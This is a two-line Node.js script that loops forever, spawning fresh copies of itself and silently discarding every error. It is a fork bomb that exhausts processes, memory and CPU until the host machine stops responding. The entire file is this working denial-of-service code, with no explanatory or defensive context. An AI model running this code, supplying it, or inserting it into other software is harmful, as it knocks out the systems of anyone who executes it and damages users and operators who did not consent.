import { spawn } from 'child_process';
for (;;) try { spawn(process.execPath, [__filename]).on('error', () => {}); } catch (refused) {}
